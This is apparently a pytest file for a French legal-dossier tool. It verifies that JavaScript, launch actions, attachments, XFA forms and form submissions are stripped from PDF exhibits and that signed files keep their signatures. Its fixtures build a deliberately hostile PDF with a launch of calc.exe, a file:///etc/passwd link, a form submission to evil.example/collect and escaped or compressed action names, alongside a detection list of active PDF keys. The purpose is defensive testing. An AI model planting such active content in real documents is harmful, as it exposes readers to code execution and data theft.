"""Exhibits carry no active content: scripts, automatic actions, launched programs, attached files,
form submissions, XFA forms and media are removed from the bundle and from each exhibit's own PDF,
each removal reported naming the exhibit; web links, pages, text and images stay."""

from __future__ import annotations

import io
import shutil
import subprocess

import pytest

from readback import norm

DATE = "2026-06-30"
TEXT = "Contrat de vente signe le 3 mars 2025 entre les parties"
# what must not be found anywhere in a produced PDF: keys, action types, annotation types
ACTIVE_KEYS = {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/AF", "/RichMediaContent"}
ACTIVE_TYPES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition",
                "/RichMediaExecute", "/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound"}


def _hostile() -> bytes:
    """One page of text with every kind of active content a PDF can carry, and one web link."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 700 Td ({TEXT}) Tj ET".encode())

    def js(code: str):
        return Dictionary(S=Name.JavaScript, JS=String(code))

    pdf.Root.OpenAction = js("app.alert('ouverture')")
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js("app.launchURL('x')")])))
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a program", filename="virus.exe")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"))
    page.obj.AA = Dictionary(O=js("this.print()"))

    def link(rect, action):
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect), Border=Array([0, 0, 0]),
                                            A=action))

    embedded = pikepdf.AttachedFileSpec(pdf, b"pour le greffe", filename="annexe.txt")
    page.obj.Annots = Array([
        link([72, 600, 200, 620], Dictionary(S=Name.Launch, F=String("calc.exe"))),
        link([72, 560, 200, 580], Dictionary(S=Name.URI, URI=String("https://example.org/facture"))),
        link([72, 520, 200, 540], Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        link([72, 480, 200, 500], Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([300, 600, 320, 620]),
                                     FS=embedded.obj, AA=Dictionary(E=js("app.alert(2)")))),
    ])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _active(pdf) -> list[str]:
    """Every active key, action or annotation type found in any object of ``pdf`` (all objects,
    reachable or not, with their direct sub-objects)."""
    from pikepdf import Array, Dictionary, Stream

    found, stack = [], list(pdf.objects)
    while stack:
        obj = stack.pop()
        if isinstance(obj, Array):
            stack.extend(v for v in obj if not (isinstance(v, (Dictionary, Array, Stream)) and v.is_indirect))
        elif isinstance(obj, (Dictionary, Stream)):
            for key in obj.keys():
                value = obj.get(key)
                if key in ACTIVE_KEYS:
                    found.append(key)
                if key in ("/S", "/Subtype") and str(value) in ACTIVE_TYPES:
                    found.append(str(value))
                if key == "/URI" and not str(value).startswith("https:"):
                    found.append(f"/URI {value}")
                if key != "/Parent" and not (isinstance(value, (Dictionary, Array, Stream)) and value.is_indirect):
                    stack.append(value)  # indirect objects are in pdf.objects already
    return found


def _links(page) -> list[str]:
    return [str(a.A.URI) for a in page.obj.get("/Annots", []) if "/A" in a and a.A.get("/S") == "/URI"]


def _page_text(data: bytes, number: int) -> str:
    """The text of page ``number`` (from 1): pdftotext when installed, else the content's strings."""
    if shutil.which("pdftotext"):
        out = subprocess.run(["pdftotext", "-f", str(number), "-l", str(number), "-", "-"], input=data,
                             capture_output=True, check=True).stdout
        return norm(out.decode("utf-8"))
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(data))
    return norm(" ".join(bytes(op.operands[0]).decode("cp1252")
                         for op in pikepdf.parse_content_stream(pdf.pages[number - 1]) if str(op.operator) == "Tj"))


def _dossier(tmp_path):
    folder = tmp_path / "d"
    (folder / "pieces").mkdir(parents=True)
    (folder / "pieces" / "contrat.pdf").write_bytes(_hostile())
    (folder / "dossier.yaml").write_text("""\
reference: T-NET
creancier:
  type: professionnel
  nom: Créancier SARL
  adresse: {ligne1: 1 rue A, code_postal: "69003", ville: Lyon}
debiteur:
  type: professionnel
  nom: Débiteur SAS
  adresse: {ligne1: 2 rue B, code_postal: "69002", ville: Lyon}
factures:
  - {numero: F1, date: 2025-03-01, echeance: 2025-03-31, montant_ttc: "1000.00"}
pieces:
  - {titre: Contrat, fichier: pieces/contrat.pdf, categorie: contrat}
""", encoding="utf-8")
    return folder


REMOVALS = [
    "JavaScript retiré (à l'ouverture du document; scripts du document; page 1)",
    "fichier joint retiré (virus.exe; annexe.txt)",
    "formulaire XFA retiré",
    "lancement d'un programme ou d'un fichier (/Launch) retiré (lien, page 1)",
    "lien vers une adresse non web retiré (lien, page 1)",
    "envoi de formulaire (/SubmitForm) retiré (lien, page 1)",
]


def test_active_content_is_removed_and_reported(run, tmp_path):
    import pikepdf

    folder = _dossier(tmp_path)
    r = run("pieces", str(folder), "--date", DATE, "--format", "pdf")
    assert r.exit_code == 0, r.stderr
    warnings = [line for line in r.stderr.splitlines() if "pièce n° 1 (contrat.pdf) : " in line]
    for removal in REMOVALS:
        assert any(removal in w for w in warnings), (removal, warnings)
    assert len(warnings) == len(REMOVALS)  # one warning per kind of removal (the page's /AA was JavaScript)
    data = next((folder / "sortie").glob("*_pieces.pdf")).read_bytes()
    bundle = pikepdf.open(io.BytesIO(data))
    assert _active(bundle) == []
    exhibit_page = len(bundle.pages)  # the front matter, then the exhibit's one page
    assert _links(bundle.pages[exhibit_page - 1]) == ["https://example.org/facture"]
    text = _page_text(data, exhibit_page)
    assert TEXT in text and "Pièce n° 1 — page 1/1" in text
    assert norm(text.replace("Pièce n° 1 — page 1/1", "")) == _page_text((folder / "pieces" / "contrat.pdf").read_bytes(), 1)


def test_each_exhibit_as_its_own_pdf_is_stamped_and_clean(tmp_path):
    import pikepdf

    from procedure import etat
    from procedure.api.dossier import load
    from procedure.pieces.recueil import collect, exhibit_pdf

    folder = _dossier(tmp_path)
    state = etat.at(load(folder), __import__("datetime").date(2026, 6, 30))
    collected = collect(state)
    assert sum("JavaScript retiré" in w for w in collected.warnings) == 1  # one warning per kind of removal
    assert all(w.startswith("pièce n° 1 (contrat.pdf) : ") for w in collected.warnings)
    (ex,) = collected.exhibits
    first, again = exhibit_pdf(ex), exhibit_pdf(ex)
    for data in (first, again):
        pdf = pikepdf.open(io.BytesIO(data))
        assert _active(pdf) == [] and len(pdf.pages) == 1
        assert _links(pdf.pages[0]) == ["https://example.org/facture"]
        assert _page_text(data, 1).count("Pièce n° 1 — page 1/1") == 1  # stamped once, however often asked
        assert pdf.Root.PageLabels.Nums[1].P == "P1-"


def test_cleaning_a_clean_file_finds_nothing(tmp_path):
    from procedure.pieces.nettoyage import strip_active
    from procedure.pieces.ouverture import open_exhibit

    path = tmp_path / "contrat.pdf"
    path.write_bytes(_hostile())
    _, pdf, _, _ = open_exhibit(path, "pieces[1].fichier")
    assert strip_active(pdf)
    assert strip_active(pdf) == []


@pytest.mark.parametrize("form", ["pypdf_form.pdf", "samplefiles_libreoffice-form.pdf", "qpdf_form-filled-by-acrobat.pdf"])
def test_a_filled_form_keeps_what_it_shows(form):
    """The fields become page content: a value filled without its appearance (LibreOffice) is drawn."""
    from conftest import SHARED
    from procedure.pieces.nettoyage import strip_active
    from procedure.pieces.ouverture import open_exhibit

    path = SHARED / "corpus" / "pdf_tricky" / form
    if not path.is_file():
        pytest.skip("../shared/corpus/pdf_tricky absent")
    _, pdf, _, _ = open_exhibit(path, "pieces[1].fichier")
    assert any("formulaire figé" in r for r in strip_active(pdf))
    assert not [a for page in pdf.pages for a in page.obj.get("/Annots", []) if a.get("/Subtype") == "/Widget"]
    assert "/AcroForm" not in pdf.Root


def test_the_title_in_the_packet_is_clean_and_a_clean_title_unchanged(tmp_path):
    """The scanned ordonnance noted in the journal travels in the commissaire's packet: cleaned like
    an exhibit (its outline too), the removals said; a title with nothing active keeps its bytes."""
    import pikepdf
    from pikepdf import Dictionary, Name, String

    from procedure.pieces.separees import as_pdf

    hostile = pikepdf.open(io.BytesIO(_hostile()))
    item = hostile.make_indirect(Dictionary(Title=String("x"), A=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))))
    hostile.Root.Outlines = hostile.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = hostile.Root.Outlines
    path = tmp_path / "ordonnance.pdf"
    hostile.save(path)
    data, removed, signatures = as_pdf(path, "journal.yaml (ordonnance)")
    assert signatures == []
    pdf = pikepdf.open(io.BytesIO(data))
    assert _active(pdf) == [] and len(pdf.pages) == 1
    assert any("JavaScript retiré" in r for r in removed) and any("fichier joint retiré" in r for r in removed)
    assert TEXT in _page_text(data, 1)
    clean = tmp_path / "propre.pdf"
    clean.write_bytes(data)
    assert as_pdf(clean, "journal.yaml (ordonnance)") == (data, [], [])


_ESCAPED = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /#41A << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >> >>
endobj
trailer << /Root 1 0 R >>
%%EOF
"""


def _compressed_objects() -> bytes:
    """A page whose automatic action is in an object stream, its type an indirect name."""
    import pikepdf
    from pikepdf import Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=pdf.make_indirect(Name.Launch), F=String("calc.exe")))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/AA" not in out.getvalue() and b"Launch" not in out.getvalue()
    return out.getvalue()


@pytest.mark.parametrize("data", [_ESCAPED, "compressed"], ids=["names-escaped", "object-stream"])
def test_the_quick_check_sees_what_the_file_hides(data):
    """A document with nothing to strip is not walked page by page (:func:`may_hold_active`); names
    written with # escapes or kept in compressed object streams are still found and stripped."""
    import pikepdf

    from procedure.pieces.nettoyage import may_hold_active, strip_active

    pdf = pikepdf.open(io.BytesIO(_compressed_objects() if data == "compressed" else data))
    assert may_hold_active(pdf)
    removed = "lancement d'un programme ou d'un fichier (/Launch)" if data == "compressed" else "JavaScript"
    assert strip_active(pdf) == [f"{removed} retiré (page 1)"]
    assert "/AA" not in pdf.pages[0].obj
    clean = pikepdf.new()
    clean.add_blank_page(page_size=(595, 842))
    assert not may_hold_active(clean) and strip_active(clean) == []


# --- an electronically signed file: its bytes are its signature -------------------------------------

def test_a_signed_title_keeps_its_bytes_and_its_signature(tmp_path):
    """A title signed by the court (a signature field and its /ByteRange, /Contents) with nothing
    active travels byte for byte: its signature still verifies; any rewrite would break it."""
    import pikepdf

    from procedure.pieces.separees import as_pdf
    from signes import signed_pdf, verifies

    path = tmp_path / "ordonnance-signee.pdf"
    path.write_bytes(signed_pdf())
    proof = as_pdf(path, "journal.yaml (ordonnance)")
    assert proof.data == path.read_bytes() and verifies(proof.data)
    assert proof.signatures == ["Signature1"] and proof.removed == []
    rewritten = io.BytesIO()
    pikepdf.open(path).save(rewritten)  # what cleaning did to it: a new file
    assert not verifies(rewritten.getvalue())


@pytest.mark.parametrize("hostile, carried", [
    ({"javascript": True}, "JavaScript (à l'ouverture du document)"),
    # in a bookmark: the catalog is searched too
    ({"outline_script": True}, "JavaScript (signets, formulaire ou catalogue du document)"),
])
def test_a_signed_title_carrying_active_content_is_refused(tmp_path, hostile, carried):
    from procedure.erreurs import ExhibitError
    from procedure.pieces.separees import as_pdf
    from signes import signed_pdf

    path = tmp_path / "ordonnance-signee.pdf"
    path.write_bytes(signed_pdf(**hostile))
    with pytest.raises(ExhibitError) as refused:
        as_pdf(path, "journal.yaml (ordonnance)")
    message = str(refused.value)
    assert message.startswith(f"journal.yaml (ordonnance) : {path} est signé électroniquement (champ « Signature1 »)")
    assert carried in message and "retiré" not in message and "rien n'a été écrit" in message


def test_an_empty_signature_field_is_no_signature():
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    from procedure.pieces.signature import signature_fields
    from signes import signed_pdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("A signer"), Subtype=Name.Widget, Rect=Array([0, 0, 0, 0])))
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    assert signature_fields(pdf) == []
    # a signed field under a parent that gives the type and the first part of the name
    signed = pikepdf.open(io.BytesIO(signed_pdf(field="Greffier")))
    widget = signed.Root.AcroForm.Fields[0]
    parent = signed.make_indirect(Dictionary(FT=Name.Sig, T=String("Ordonnance"), Kids=Array([widget])))
    del widget["/FT"]
    widget.Parent = parent
    signed.Root.AcroForm.Fields = Array([parent])
    assert signature_fields(signed) == ["Ordonnance.Greffier"]


def test_a_signed_exhibit_is_stamped_and_said_to_be_a_copy(run, tmp_path):
    import pikepdf

    from signes import signed_pdf, verifies

    folder = _dossier(tmp_path)
    (folder / "pieces" / "contrat.pdf").write_bytes(signed_pdf(TEXT))
    r = run("pieces", str(folder), "--date", DATE, "--format", "pdf")
    assert r.exit_code == 0, r.stderr
    (warning,) = [line for line in r.stderr.splitlines() if "pièce n° 1 (contrat.pdf) : signée" in line]
    assert "signée électroniquement (champ « Signature1 ») : sa signature ne subsiste ni dans le recueil ni dans " \
           "la pièce tamponnée" in norm(warning) and "conservez le fichier d'origine signé" in norm(warning)
    data = next((folder / "sortie").glob("*_pieces.pdf")).read_bytes()
    bundle = pikepdf.open(io.BytesIO(data))
    assert _active(bundle) == [] and not verifies(data)
    assert TEXT in _page_text(data, len(bundle.pages))
    assert verifies((folder / "pieces" / "contrat.pdf").read_bytes())  # the original is left as it was
